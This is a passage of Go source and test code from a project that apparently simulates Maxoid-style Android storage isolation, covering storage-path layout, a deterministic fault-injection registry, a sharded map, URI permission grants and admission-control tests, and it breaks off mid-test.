	got = VolatileBacking("a", "/weird/path")
	if got != "/disk/ext/a/tmp/weird/path" {
		t.Errorf("VolatileBacking non-ext = %s", got)
	}
	got = PublicBacking(ExtDir + "/doc.txt")
	if got != "/disk/ext/pub/doc.txt" {
		t.Errorf("PublicBacking = %s", got)
	}
	// Round trip: a client path and its tmp-visible counterpart map to
	// the same backing file.
	client := ExtDir + "/x/y.bin"
	if VolatileBacking("a", client) != ExtTmpBranch("a")+"/x/y.bin" {
		t.Error("volatile backing mismatch")
	}
}
