// Package layout fixes the storage layout of the simulated device: the
// client-visible mount points apps use (internal private data, external
// storage) and the backing directories on the global disk that Zygote's
// Aufs branch manager composes into per-instance views (paper §4.2,
// Table 2).
//
// Client-visible paths (inside every app's mount namespace):
//
//	/data/data/<pkg>         internal private storage (Priv / nPriv)
//	/data/data/ppriv/<pkg>   persistent private storage (pPriv)
//	/storage/sdcard          external storage (EXTDIR)
//	/storage/sdcard/tmp      the initiator's volatile files (Vol(A))
//
// Backing paths (on the global disk, only root-accessible):
//
//	/disk/data/<pkg>             app internal private branch
//	/disk/npriv/<B>-<A>          writable nPriv branch of delegate B^A
//	/disk/ppriv/<B>-<A>          pPriv branch of delegate B^A
//	/disk/ext/pub                public external branch
//	/disk/ext/<A>/tmp            volatile external branch of initiator A
//	/disk/ext/<A>/data/<dir>     A's private external dirs
//	/disk/ext/<B>-<A>/data/<dir> B^A's writes to B's own private ext dirs
package layout

import "path"

// Client-visible mount points.
const (
	// DataDir is where internal app-private directories live.
	DataDir = "/data/data"
	// PPrivDir is the persistent-private-state directory root (§6.1).
	PPrivDir = "/data/data/ppriv"
	// ExtDir is the external storage mount point, the paper's EXTDIR.
	ExtDir = "/storage/sdcard"
	// ExtTmpDir is where an initiator sees its volatile files.
	ExtTmpDir = "/storage/sdcard/tmp"
)

// Backing directory roots on the global disk.
const (
	BackData  = "/disk/data"
	BackNPriv = "/disk/npriv"
	BackPPriv = "/disk/ppriv"
	BackExt   = "/disk/ext"
)

// AppData returns the client-visible internal private directory of pkg.
func AppData(pkg string) string { return path.Join(DataDir, pkg) }

// AppPPriv returns the client-visible persistent private directory.
func AppPPriv(pkg string) string { return path.Join(PPrivDir, pkg) }

// BackAppData returns the backing branch of pkg's internal private dir.
func BackAppData(pkg string) string { return path.Join(BackData, pkg) }

// DelegateKey names the (app, initiator) pair used for per-delegate
// backing branches, the paper's "B-A" naming in Table 2.
func DelegateKey(app, initiator string) string { return app + "-" + initiator }

// BackNPrivBranch returns the writable nPriv branch of delegate B^A.
func BackNPrivBranch(app, initiator string) string {
	return path.Join(BackNPriv, DelegateKey(app, initiator))
}

// BackPPrivBranch returns the pPriv branch of delegate B^A.
func BackPPrivBranch(app, initiator string) string {
	return path.Join(BackPPriv, DelegateKey(app, initiator))
}

// ExtPubBranch is the public external storage branch.
func ExtPubBranch() string { return path.Join(BackExt, "pub") }

// ExtTmpBranch returns initiator A's volatile external branch, the
// backing store of Vol(A)'s files.
func ExtTmpBranch(initiator string) string {
	return path.Join(BackExt, initiator, "tmp")
}

// ExtPrivBranch returns A's private external branch for one of its
// declared private directories (relative to ExtDir).
func ExtPrivBranch(owner, dir string) string {
	return path.Join(BackExt, owner, "data", dir)
}

// ExtDelegatePrivBranch returns the branch capturing B^A's writes to
// B's own private external directory (Table 2 row "EXTDIR/data/B").
func ExtDelegatePrivBranch(app, initiator, dir string) string {
	return path.Join(BackExt, DelegateKey(app, initiator), "data", dir)
}

// VolatileBacking maps a client-visible external path written by a
// delegate of A to its backing location in A's volatile branch. The
// client path must be under ExtDir.
func VolatileBacking(initiator, clientPath string) string {
	rel := clientPath
	if len(clientPath) >= len(ExtDir) && clientPath[:len(ExtDir)] == ExtDir {
		rel = clientPath[len(ExtDir):]
	}
	return path.Join(ExtTmpBranch(initiator), rel)
}

// PublicBacking maps a client-visible external path to the public
// branch location.
func PublicBacking(clientPath string) string {
	rel := clientPath
	if len(clientPath) >= len(ExtDir) && clientPath[:len(ExtDir)] == ExtDir {
		rel = clientPath[len(ExtDir):]
	}
	return path.Join(ExtPubBranch(), rel)
}
