// Package fault is a process-wide, seed-deterministic fault-injection
// registry for the Maxoid substrate. Packages declare named fault
// points at init time and consult them on hot state transitions
// (unionfs copy-up, sqldb commit, cowproxy view synthesis, ...); test
// harnesses enable a schedule of faults for a run and get back an
// exact trace of what fired where.
//
// Determinism: all randomness for a run flows from one PRNG seeded by
// Enable's seed, and decisions are made under one lock in call order.
// For single-goroutine harness runs (the chaos engines) the same seed
// therefore reproduces the identical fault schedule. For debugging a
// failure, EnableScript replays an exact schedule — fire precisely at
// (point, hit#) pairs — which is what shrink-to-minimal uses.
//
// The disabled fast path is one atomic load, so instrumenting
// production code paths costs effectively nothing when no harness is
// attached.
package fault

import (
	"errors"
	"fmt"
	"math/rand"
	"sort"
	"sync"
	"sync/atomic"
	"time"
)

// ErrInjected is the error surfaced by fired error/partial-write
// faults. Harnesses use errors.Is(err, ErrInjected) to tell injected
// failures from genuine bugs.
var ErrInjected = errors.New("fault: injected failure")

// ErrTransient is the error surfaced by fired OpTransient faults: a
// retryable, EIO/ENOSPC-style storage failure that may clear on retry,
// as opposed to permanent corruption. It wraps ErrInjected, so every
// existing errors.Is(err, ErrInjected) check still recognizes it;
// health classification (internal/health) additionally matches
// ErrTransient to pick the retry path instead of poisoning.
var ErrTransient = fmt.Errorf("transient: %w", ErrInjected)

// Op selects what a fired fault does to the caller.
type Op int

const (
	// OpError makes Hit return an injected error.
	OpError Op = iota
	// OpDelay sleeps for the spec's Delay, then succeeds. Used to
	// widen race windows.
	OpDelay
	// OpPartial truncates the operation: PartialWrite returns a byte
	// count strictly less than requested, plus an injected error.
	OpPartial
	// OpTransient makes Hit return ErrTransient: a retryable storage
	// fault (the operation performed no work and may be re-attempted).
	OpTransient
)

func (o Op) String() string {
	switch o {
	case OpError:
		return "error"
	case OpDelay:
		return "delay"
	case OpPartial:
		return "partial"
	case OpTransient:
		return "transient"
	default:
		return fmt.Sprintf("op(%d)", int(o))
	}
}

// Spec arms one fault point for a probabilistic run.
type Spec struct {
	Point string  // declared fault-point name
	Prob  float64 // chance of firing per hit, in (0,1]
	After int     // skip this many hits before the point can fire
	Times int     // fire at most this many times; 0 = unlimited
	Op    Op
	Err   error         // error to inject for OpError; nil = ErrInjected
	Delay time.Duration // sleep for OpDelay
	Frac  float64       // fraction written for OpPartial, in [0,1); 0 = random

	// Hook, if set, runs on the hitting goroutine each time this spec
	// fires, after the registry lock is released (so it may re-enter
	// fault or kill processes). The kill-chaos engine uses it to crash
	// a process in the middle of an instrumented operation. Hooks make
	// a schedule unreplayable by EnableScript; shrink does not apply.
	Hook func()
}

// Fire is one entry of a scripted schedule: fire at exactly the n-th
// hit (1-based) of a point.
type Fire struct {
	Point string
	Hit   int
	Op    Op
	Frac  float64 // for OpPartial; 0 = half
}

// Event is one entry of a run's trace: a hit on an armed point and
// whether it fired.
type Event struct {
	Point string
	Hit   int // 1-based hit index at this point
	Fired bool
	Op    Op
	Frac  float64 // for fired OpPartial
}

func (e Event) String() string {
	if !e.Fired {
		return fmt.Sprintf("%s#%d pass", e.Point, e.Hit)
	}
	if e.Op == OpPartial {
		return fmt.Sprintf("%s#%d FIRE %s frac=%.3f", e.Point, e.Hit, e.Op, e.Frac)
	}
	return fmt.Sprintf("%s#%d FIRE %s", e.Point, e.Hit, e.Op)
}

// Point metadata from Declare.
type Point struct {
	Name string
	Desc string
}

var (
	regMu    sync.Mutex
	declared = map[string]string{}
)

// Declare registers a fault point. Call from package init; duplicate
// declarations with the same description are idempotent.
func Declare(name, desc string) string {
	regMu.Lock()
	defer regMu.Unlock()
	if prev, ok := declared[name]; ok && prev != desc {
		panic(fmt.Sprintf("fault: point %q redeclared with different description", name))
	}
	declared[name] = desc
	return name
}

// Points returns all declared fault points, sorted by name.
func Points() []Point {
	regMu.Lock()
	defer regMu.Unlock()
	out := make([]Point, 0, len(declared))
	for n, d := range declared {
		out = append(out, Point{Name: n, Desc: d})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Name < out[j].Name })
	return out
}

type specState struct {
	Spec
	fired int
}

var (
	active atomic.Bool // fast-path gate

	mu      sync.Mutex
	rng     *rand.Rand
	specs   map[string]*specState
	script  map[string]map[int]Fire
	hits    map[string]int
	trace   []Event
	suspend int
)

// Enable arms the registry for a probabilistic run driven by seed.
// Specs for undeclared points panic (catches typos at harness-build
// time). Any previous run state is discarded.
func Enable(seed int64, ss ...Spec) {
	regMu.Lock()
	for _, s := range ss {
		if _, ok := declared[s.Point]; !ok {
			regMu.Unlock()
			panic(fmt.Sprintf("fault: Enable of undeclared point %q", s.Point))
		}
	}
	regMu.Unlock()

	mu.Lock()
	defer mu.Unlock()
	rng = rand.New(rand.NewSource(seed))
	specs = make(map[string]*specState, len(ss))
	for _, s := range ss {
		s := s
		specs[s.Point] = &specState{Spec: s}
	}
	script = nil
	hits = make(map[string]int)
	trace = nil
	suspend = 0
	active.Store(true)
}

// EnableScript arms the registry to fire at exactly the given
// (point, hit#) pairs and nowhere else. Used to replay and shrink a
// schedule captured by Trace.
func EnableScript(fires []Fire) {
	regMu.Lock()
	for _, f := range fires {
		if _, ok := declared[f.Point]; !ok {
			regMu.Unlock()
			panic(fmt.Sprintf("fault: EnableScript of undeclared point %q", f.Point))
		}
	}
	regMu.Unlock()

	mu.Lock()
	defer mu.Unlock()
	rng = nil
	specs = nil
	script = make(map[string]map[int]Fire)
	for _, f := range fires {
		m := script[f.Point]
		if m == nil {
			m = make(map[int]Fire)
			script[f.Point] = m
		}
		m[f.Hit] = f
	}
	hits = make(map[string]int)
	trace = nil
	suspend = 0
	active.Store(true)
}

// Disable tears down the current run. Instrumented code returns to the
// single-atomic-load fast path.
func Disable() {
	active.Store(false)
	mu.Lock()
	defer mu.Unlock()
	rng = nil
	specs = nil
	script = nil
	hits = nil
	suspend = 0
}

// Suspend pauses injection process-wide (nestable). Recovery and
// rollback paths run under Suspend so that cleanup from one injected
// fault is not itself re-injected, which would make all-or-nothing
// rollback impossible to guarantee or test.
func Suspend() {
	mu.Lock()
	suspend++
	mu.Unlock()
}

// Resume undoes one Suspend.
func Resume() {
	mu.Lock()
	if suspend > 0 {
		suspend--
	}
	mu.Unlock()
}

// Trace returns a copy of the run's event log: every hit on an armed
// point, in order, with fire decisions. Two runs with the same seed
// and workload produce identical traces.
func Trace() []Event {
	mu.Lock()
	defer mu.Unlock()
	out := make([]Event, len(trace))
	copy(out, trace)
	return out
}

// Fires returns only the fired events of the trace, as a script that
// EnableScript can replay.
func Fires() []Fire {
	mu.Lock()
	defer mu.Unlock()
	var out []Fire
	for _, e := range trace {
		if e.Fired {
			out = append(out, Fire{Point: e.Point, Hit: e.Hit, Op: e.Op, Frac: e.Frac})
		}
	}
	return out
}

// decide consults the schedule for one hit of point. It returns the
// event (recorded in the trace) and, for OpError, the configured error.
func decide(point string) (Event, error) {
	mu.Lock()
	if !active.Load() || (specs == nil && script == nil) {
		mu.Unlock()
		return Event{}, nil
	}
	if suspend > 0 {
		mu.Unlock()
		return Event{}, nil
	}

	var ev Event
	var err error
	if script != nil {
		if m, ok := script[point]; ok {
			hits[point]++
			n := hits[point]
			ev = Event{Point: point, Hit: n}
			if f, ok := m[n]; ok {
				ev.Fired = true
				ev.Op = f.Op
				ev.Frac = f.Frac
				if f.Op == OpPartial && ev.Frac == 0 {
					ev.Frac = 0.5
				}
				switch f.Op {
				case OpError:
					err = ErrInjected
				case OpTransient:
					err = ErrTransient
				}
			}
			trace = append(trace, ev)
		}
		mu.Unlock()
		return ev, err
	}

	st, ok := specs[point]
	if !ok {
		mu.Unlock()
		return Event{}, nil
	}
	hits[point]++
	n := hits[point]
	ev = Event{Point: point, Hit: n}
	eligible := n > st.After && (st.Times == 0 || st.fired < st.Times)
	if eligible && rng.Float64() < st.Prob {
		st.fired++
		ev.Fired = true
		ev.Op = st.Op
		switch st.Op {
		case OpError:
			err = st.Err
			if err == nil {
				err = ErrInjected
			}
		case OpTransient:
			err = st.Err
			if err == nil {
				err = ErrTransient
			}
		case OpPartial:
			ev.Frac = st.Frac
			if ev.Frac == 0 {
				ev.Frac = rng.Float64()
			}
		}
	}
	trace = append(trace, ev)
	var delay time.Duration
	var hook func()
	if ev.Fired {
		if ev.Op == OpDelay {
			delay = st.Delay
		}
		hook = st.Hook
	}
	mu.Unlock()
	if delay > 0 {
		time.Sleep(delay)
	}
	if hook != nil {
		hook()
	}
	return ev, err
}

// Hit consults the fault point and returns the injected error if an
// OpError fault fired, nil otherwise. OpDelay faults sleep before
// returning nil. The disabled fast path is one atomic load.
func Hit(point string) error {
	if !active.Load() {
		return nil
	}
	_, err := decide(point)
	return err
}

// PartialWrite consults the fault point for an n-byte write. When no
// fault fires it returns (n, nil). A fired OpPartial returns a count
// strictly less than n plus ErrInjected — the caller must persist only
// that prefix and surface the error. A fired OpError returns (0,
// injected error) before anything is written.
func PartialWrite(point string, n int) (int, error) {
	if !active.Load() {
		return n, nil
	}
	ev, err := decide(point)
	if !ev.Fired {
		return n, nil
	}
	switch ev.Op {
	case OpError, OpTransient:
		return 0, err
	case OpPartial:
		k := int(float64(n) * ev.Frac)
		if k >= n {
			k = n - 1
		}
		if k < 0 {
			k = 0
		}
		return k, fmt.Errorf("%w: short write %d of %d bytes at %s", ErrInjected, k, n, point)
	default:
		return n, nil
	}
}
