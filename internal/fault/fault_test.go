package fault

import (
	"errors"
	"reflect"
	"testing"
	"time"
)

func init() {
	Declare("test.a", "test point a")
	Declare("test.b", "test point b")
}

func TestDisabledFastPath(t *testing.T) {
	Disable()
	if err := Hit("test.a"); err != nil {
		t.Fatalf("disabled Hit: %v", err)
	}
	n, err := PartialWrite("test.a", 100)
	if n != 100 || err != nil {
		t.Fatalf("disabled PartialWrite: %d, %v", n, err)
	}
	if tr := Trace(); len(tr) != 0 {
		t.Fatalf("disabled trace: %v", tr)
	}
}

func TestSeedDeterminism(t *testing.T) {
	run := func(seed int64) []Event {
		Enable(seed,
			Spec{Point: "test.a", Prob: 0.3, Op: OpError},
			Spec{Point: "test.b", Prob: 0.5, Op: OpPartial},
		)
		defer Disable()
		for i := 0; i < 200; i++ {
			Hit("test.a")
			PartialWrite("test.b", 64)
		}
		return Trace()
	}
	t1 := run(42)
	t2 := run(42)
	if !reflect.DeepEqual(t1, t2) {
		t.Fatal("same seed produced different traces")
	}
	t3 := run(43)
	if reflect.DeepEqual(t1, t3) {
		t.Fatal("different seeds produced identical traces (suspicious)")
	}
	fired := 0
	for _, e := range t1 {
		if e.Fired {
			fired++
		}
	}
	if fired == 0 {
		t.Fatal("no faults fired at prob 0.3/0.5 over 400 hits")
	}
}

func TestAfterAndTimes(t *testing.T) {
	Enable(1, Spec{Point: "test.a", Prob: 1, After: 3, Times: 2, Op: OpError})
	defer Disable()
	var got []bool
	for i := 0; i < 8; i++ {
		got = append(got, Hit("test.a") != nil)
	}
	want := []bool{false, false, false, true, true, false, false, false}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("After/Times schedule = %v, want %v", got, want)
	}
}

func TestCustomError(t *testing.T) {
	sentinel := errors.New("boom")
	Enable(1, Spec{Point: "test.a", Prob: 1, Times: 1, Op: OpError, Err: sentinel})
	defer Disable()
	if err := Hit("test.a"); !errors.Is(err, sentinel) {
		t.Fatalf("got %v, want sentinel", err)
	}
}

func TestPartialWrite(t *testing.T) {
	Enable(7, Spec{Point: "test.a", Prob: 1, Times: 1, Op: OpPartial, Frac: 0.5})
	defer Disable()
	n, err := PartialWrite("test.a", 10)
	if !errors.Is(err, ErrInjected) {
		t.Fatalf("err = %v, want ErrInjected", err)
	}
	if n != 5 {
		t.Fatalf("n = %d, want 5", n)
	}
	// After Times is exhausted, writes pass through untouched.
	n, err = PartialWrite("test.a", 10)
	if n != 10 || err != nil {
		t.Fatalf("exhausted point: %d, %v", n, err)
	}
}

func TestPartialNeverFull(t *testing.T) {
	Enable(9, Spec{Point: "test.a", Prob: 1, Op: OpPartial}) // random Frac
	defer Disable()
	for i := 0; i < 100; i++ {
		n, err := PartialWrite("test.a", 4)
		if err == nil {
			t.Fatal("partial fault did not surface error")
		}
		if n >= 4 || n < 0 {
			t.Fatalf("partial write count %d out of [0,4)", n)
		}
	}
}

func TestSuspendResume(t *testing.T) {
	Enable(1, Spec{Point: "test.a", Prob: 1, Op: OpError})
	defer Disable()
	Suspend()
	if err := Hit("test.a"); err != nil {
		t.Fatalf("suspended Hit fired: %v", err)
	}
	Resume()
	if err := Hit("test.a"); err == nil {
		t.Fatal("resumed Hit did not fire")
	}
	// Suspended hits are not counted or traced.
	tr := Trace()
	if len(tr) != 1 || tr[0].Hit != 1 {
		t.Fatalf("trace = %v, want single hit#1", tr)
	}
}

func TestScriptReplay(t *testing.T) {
	Enable(11, Spec{Point: "test.a", Prob: 0.4, Op: OpError})
	for i := 0; i < 50; i++ {
		Hit("test.a")
	}
	fires := Fires()
	origTrace := Trace()
	Disable()
	if len(fires) == 0 {
		t.Fatal("no fires to replay")
	}

	EnableScript(fires)
	defer Disable()
	var replayFired []int
	for i := 0; i < 50; i++ {
		if Hit("test.a") != nil {
			replayFired = append(replayFired, i+1)
		}
	}
	var origFired []int
	for _, e := range origTrace {
		if e.Fired {
			origFired = append(origFired, e.Hit)
		}
	}
	if !reflect.DeepEqual(replayFired, origFired) {
		t.Fatalf("script replay fired at %v, original at %v", replayFired, origFired)
	}
}

func TestDelay(t *testing.T) {
	Enable(1, Spec{Point: "test.a", Prob: 1, Times: 1, Op: OpDelay, Delay: 20 * time.Millisecond})
	defer Disable()
	start := time.Now()
	if err := Hit("test.a"); err != nil {
		t.Fatalf("delay op returned error: %v", err)
	}
	if d := time.Since(start); d < 15*time.Millisecond {
		t.Fatalf("delay too short: %v", d)
	}
}

func TestPointsRegistry(t *testing.T) {
	pts := Points()
	seen := map[string]bool{}
	for _, p := range pts {
		seen[p.Name] = true
	}
	if !seen["test.a"] || !seen["test.b"] {
		t.Fatalf("declared points missing from registry: %v", pts)
	}
	for i := 1; i < len(pts); i++ {
		if pts[i-1].Name >= pts[i].Name {
			t.Fatal("Points not sorted")
		}
	}
}

func TestTransientOp(t *testing.T) {
	Enable(1, Spec{Point: "test.a", Prob: 1, Times: 1, Op: OpTransient})
	defer Disable()
	err := Hit("test.a")
	if !errors.Is(err, ErrTransient) {
		t.Fatalf("err = %v, want ErrTransient", err)
	}
	if !errors.Is(err, ErrInjected) {
		t.Fatal("ErrTransient must wrap ErrInjected")
	}
	if err := Hit("test.a"); err != nil {
		t.Fatalf("Times=1 spec fired twice: %v", err)
	}
}

func TestTransientPartialWrite(t *testing.T) {
	// A transient fault on a write path injects before any bytes land.
	Enable(1, Spec{Point: "test.a", Prob: 1, Times: 1, Op: OpTransient})
	defer Disable()
	n, err := PartialWrite("test.a", 100)
	if n != 0 || !errors.Is(err, ErrTransient) {
		t.Fatalf("PartialWrite = (%d, %v), want (0, ErrTransient)", n, err)
	}
}

func TestTransientScriptReplay(t *testing.T) {
	EnableScript([]Fire{{Point: "test.a", Hit: 2, Op: OpTransient}})
	defer Disable()
	if err := Hit("test.a"); err != nil {
		t.Fatalf("hit 1 should pass: %v", err)
	}
	if err := Hit("test.a"); !errors.Is(err, ErrTransient) {
		t.Fatalf("hit 2 = %v, want ErrTransient", err)
	}
}
