// Package shard provides a small sharded map: a fixed array of
// independently locked map segments, so lookups and updates from many
// app instances contend only when they hash to the same segment. It
// backs the kernel's process table and the binder endpoint registry
// (DESIGN.md "Locking model").
package shard

import "sync"

// NumShards is the fixed shard count. A power of two so the hash can
// be masked; 16 comfortably exceeds the hardware parallelism of the
// deployments this repo targets while keeping the footprint trivial.
const NumShards = 16

// Map is a sharded map from K to V. The zero value is not usable; call
// NewMap. All methods are safe for concurrent use.
type Map[K comparable, V any] struct {
	hash   func(K) uint32
	shards [NumShards]struct {
		mu sync.RWMutex
		m  map[K]V
	}
}

// NewMap creates an empty sharded map using hash to place keys.
func NewMap[K comparable, V any](hash func(K) uint32) *Map[K, V] {
	sm := &Map[K, V]{hash: hash}
	for i := range sm.shards {
		sm.shards[i].m = make(map[K]V)
	}
	return sm
}

func (sm *Map[K, V]) shard(k K) *struct {
	mu sync.RWMutex
	m  map[K]V
} {
	return &sm.shards[sm.hash(k)&(NumShards-1)]
}

// Get returns the value for k.
func (sm *Map[K, V]) Get(k K) (V, bool) {
	s := sm.shard(k)
	s.mu.RLock()
	v, ok := s.m[k]
	s.mu.RUnlock()
	return v, ok
}

// Store sets the value for k.
func (sm *Map[K, V]) Store(k K, v V) {
	s := sm.shard(k)
	s.mu.Lock()
	s.m[k] = v
	s.mu.Unlock()
}

// Delete removes k. It reports whether the key was present.
func (sm *Map[K, V]) Delete(k K) bool {
	s := sm.shard(k)
	s.mu.Lock()
	_, ok := s.m[k]
	delete(s.m, k)
	s.mu.Unlock()
	return ok
}

// Len returns the total number of entries.
func (sm *Map[K, V]) Len() int {
	n := 0
	for i := range sm.shards {
		s := &sm.shards[i]
		s.mu.RLock()
		n += len(s.m)
		s.mu.RUnlock()
	}
	return n
}

// Range calls fn for every entry until it returns false. Each shard is
// snapshotted under its read lock before fn runs, so fn may call back
// into the map.
func (sm *Map[K, V]) Range(fn func(K, V) bool) {
	type kv struct {
		k K
		v V
	}
	for i := range sm.shards {
		s := &sm.shards[i]
		s.mu.RLock()
		snap := make([]kv, 0, len(s.m))
		for k, v := range s.m {
			snap = append(snap, kv{k, v})
		}
		s.mu.RUnlock()
		for _, e := range snap {
			if !fn(e.k, e.v) {
				return
			}
		}
	}
}

// IntHash is a Fibonacci-style hash for integer keys.
func IntHash(i int) uint32 {
	return uint32(uint64(i) * 0x9E3779B97F4A7C15 >> 32)
}

// StringHash is the 32-bit FNV-1a hash for string keys.
func StringHash(s string) uint32 {
	h := uint32(2166136261)
	for i := 0; i < len(s); i++ {
		h ^= uint32(s[i])
		h *= 16777619
	}
	return h
}
