package ams

import (
	"errors"
	"sync"

	"maxoid/internal/vfs"
)

// ErrNoGrant is returned when an app opens a URI it was never granted.
var ErrNoGrant = errors.New("ams: no permission grant for this URI")

// Android's per-URI permission mechanism (paper §2.2, case study III):
// when an intent carries FLAG_GRANT_READ_URI_PERMISSION, the receiver
// gets one-time read access to the single file behind the intent's
// data URI. The file is opened by the *granting* app's process and the
// descriptor is passed over Binder; we model that by reading through
// the grantor's namespace. The paper's point stands in the model too:
// the receiver can still copy the bytes anywhere it likes afterwards —
// only Maxoid's delegate confinement closes that hole.

// uriGrant records a single-use read capability.
type uriGrant struct {
	grantorPID int
	toPkg      string
	path       string
}

// grantTable tracks outstanding per-URI grants.
type grantTable struct {
	mu     sync.Mutex
	grants []uriGrant
}

// add records a grant from the grantor process to a package for a path.
func (g *grantTable) add(grantorPID int, toPkg, path string) {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.grants = append(g.grants, uriGrant{grantorPID: grantorPID, toPkg: toPkg, path: vfs.Clean(path)})
}

// take consumes a grant, returning the grantor PID. One-time semantics:
// a second open of the same URI needs a fresh invocation.
func (g *grantTable) take(toPkg, path string) (int, bool) {
	cleaned := vfs.Clean(path)
	g.mu.Lock()
	defer g.mu.Unlock()
	for i, gr := range g.grants {
		if gr.toPkg == toPkg && gr.path == cleaned {
			g.grants = append(g.grants[:i], g.grants[i+1:]...)
			return gr.grantorPID, true
		}
	}
	return 0, false
}

// revokeGrantor drops every grant issued by a dead process; grants are
// capabilities into the grantor's namespace, which no longer exists.
// Returns how many were revoked.
func (g *grantTable) revokeGrantor(pid int) int {
	g.mu.Lock()
	defer g.mu.Unlock()
	kept := g.grants[:0]
	revoked := 0
	for _, gr := range g.grants {
		if gr.grantorPID == pid {
			revoked++
			continue
		}
		kept = append(kept, gr)
	}
	g.grants = kept
	return revoked
}

// count returns the number of outstanding grants.
func (g *grantTable) count() int {
	g.mu.Lock()
	defer g.mu.Unlock()
	return len(g.grants)
}

// OpenGrantedURI reads a file the caller was granted one-time access to
// via FLAG_GRANT_READ_URI_PERMISSION. The read happens through the
// granting process's view (the grantor opens the file and passes the
// descriptor, as Android's Email app does).
func (c *Context) OpenGrantedURI(path string) ([]byte, error) {
	pid, ok := c.mgr.grants.take(c.Package(), path)
	if !ok {
		return nil, ErrNoGrant
	}
	grantor, alive := c.mgr.kern.Process(pid)
	if !alive {
		return nil, ErrNoGrant
	}
	// Read with the grantor's credential through the grantor's mounts.
	return vfs.ReadFile(grantor.NS, vfs.Cred{UID: grantor.UID}, path)
}
