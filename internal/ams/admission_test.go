package ams

import (
	"errors"
	"sync"
	"testing"
	"time"

	"maxoid/internal/binder"
	"maxoid/internal/fault"
	"maxoid/internal/kernel"
	"maxoid/internal/metrics"
)

func caller(app string) binder.Caller {
	return binder.Caller{Task: kernel.Task{App: app}}
}

// drain admits-and-releases until the bucket rejects, returning how
// many admissions succeeded.
func drain(a *Admission, app string, max int) int {
	n := 0
	for i := 0; i < max; i++ {
		release, err := a.Admit(caller(app), "provider:x", "query", 1)
		if err != nil {
			return n
		}
		release()
		n++
	}
	return n
}

func TestAdmissionBurstThenReject(t *testing.T) {
	a := NewAdmission(AdmissionConfig{PerAppRate: 1000, PerAppBurst: 10})
	if got := drain(a, "app.a", 1000); got < 10 || got > 12 {
		// Real time elapses between takes, so a token or two may refill
		// mid-drain; the burst bound must still hold approximately.
		t.Fatalf("admitted %d before rejection, want ~burst of 10", got)
	}
	_, err := a.Admit(caller("app.a"), "provider:x", "query", 1)
	if !errors.Is(err, binder.ErrOverloaded) {
		t.Fatalf("rejection not typed: %v", err)
	}
	if a.Rejected() == 0 {
		t.Fatal("rejection not counted")
	}
}

func TestAdmissionRefill(t *testing.T) {
	a := NewAdmission(AdmissionConfig{PerAppRate: 1000, PerAppBurst: 5})
	drain(a, "app.a", 100) // empty the bucket
	if _, err := a.Admit(caller("app.a"), "p", "query", 1); err == nil {
		t.Fatal("bucket should be empty")
	}
	// 1000 tokens/s: 10ms refills ~10 tokens, capped at burst 5.
	time.Sleep(10 * time.Millisecond)
	got := drain(a, "app.a", 100)
	if got < 3 || got > 7 {
		t.Fatalf("refill admitted %d, want ~burst 5", got)
	}
}

func TestAdmissionFairnessAcrossApps(t *testing.T) {
	// A greedy app exhausting its own bucket must not consume another
	// app's capacity: buckets are per-app.
	a := NewAdmission(AdmissionConfig{PerAppRate: 100, PerAppBurst: 8})
	if got := drain(a, "app.greedy", 1000); got < 8 || got > 10 {
		t.Fatalf("greedy admitted %d", got)
	}
	if _, err := a.Admit(caller("app.greedy"), "p", "query", 1); err == nil {
		t.Fatal("greedy app should be rejected")
	}
	if got := drain(a, "app.quiet", 8); got != 8 {
		t.Fatalf("quiet app admitted %d of its burst 8 — starved by greedy", got)
	}
}

func TestAdmissionGlobalCeiling(t *testing.T) {
	a := NewAdmission(AdmissionConfig{MaxInFlight: 4})
	var releases []func()
	for i := 0; i < 4; i++ {
		release, err := a.Admit(caller("app.a"), "p", "query", 1)
		if err != nil {
			t.Fatalf("admit %d: %v", i, err)
		}
		releases = append(releases, release)
	}
	if _, err := a.Admit(caller("app.b"), "p", "query", 1); !errors.Is(err, binder.ErrOverloaded) {
		t.Fatalf("ceiling breach not typed: %v", err)
	}
	if a.InFlight() != 4 {
		t.Fatalf("inflight = %d", a.InFlight())
	}
	releases[0]()
	if release, err := a.Admit(caller("app.b"), "p", "query", 1); err != nil {
		t.Fatalf("slot freed but rejected: %v", err)
	} else {
		release()
	}
	for _, r := range releases[1:] {
		r()
	}
	if a.InFlight() != 0 {
		t.Fatalf("inflight leaked: %d", a.InFlight())
	}
}

func TestAdmissionBatchUnits(t *testing.T) {
	a := NewAdmission(AdmissionConfig{MaxInFlight: 10})
	release, err := a.Admit(caller("app.a"), "p", "query", 8)
	if err != nil {
		t.Fatal(err)
	}
	if a.InFlight() != 8 {
		t.Fatalf("inflight = %d, want 8", a.InFlight())
	}
	if _, err := a.Admit(caller("app.b"), "p", "query", 8); !errors.Is(err, binder.ErrOverloaded) {
		t.Fatalf("8+8 over ceiling 10 should reject: %v", err)
	}
	release()
	if a.InFlight() != 0 {
		t.Fatalf("inflight = %d after release", a.InFlight())
	}
}

func TestAdmissionSystemCallersBypassRateLimit(t *testing.T) {
	a := NewAdmission(AdmissionConfig{PerAppRate: 1, PerAppBurst: 1})
	for i := 0; i < 50; i++ {
		release, err := a.Admit(binder.Caller{}, "p", "query", 1)
		if err != nil {
			t.Fatalf("system caller rejected: %v", err)
		}
		release()
	}
}

func TestAdmissionConcurrentCeiling(t *testing.T) {
	// Hammer the ceiling from many goroutines; in-flight must never
	// exceed the ceiling and must drain to zero.
	a := NewAdmission(AdmissionConfig{MaxInFlight: 16})
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 500; i++ {
				release, err := a.Admit(caller("app"), "p", "query", 1)
				if err != nil {
					continue
				}
				if n := a.InFlight(); n > 16 {
					t.Errorf("inflight %d exceeds ceiling", n)
				}
				release()
			}
		}()
	}
	wg.Wait()
	if a.InFlight() != 0 {
		t.Fatalf("inflight leaked: %d", a.InFlight())
	}
}

func TestAdmissionFaultPoint(t *testing.T) {
	// The ams.admit chaos hook forces typed rejections with zero
	// admitted work — the reject path the chaos engine drives.
	fault.Enable(1, fault.Spec{Point: "ams.admit", Prob: 1})
	defer fault.Disable()
	a := NewAdmission(AdmissionConfig{})
	_, err := a.Admit(caller("app.a"), "p", "query", 3)
	if !errors.Is(err, binder.ErrOverloaded) {
		t.Fatalf("injected rejection not typed: %v", err)
	}
	if a.Rejected() != 3 || a.Admitted() != 0 || a.InFlight() != 0 {
		t.Fatalf("rejected/admitted/inflight = %d/%d/%d",
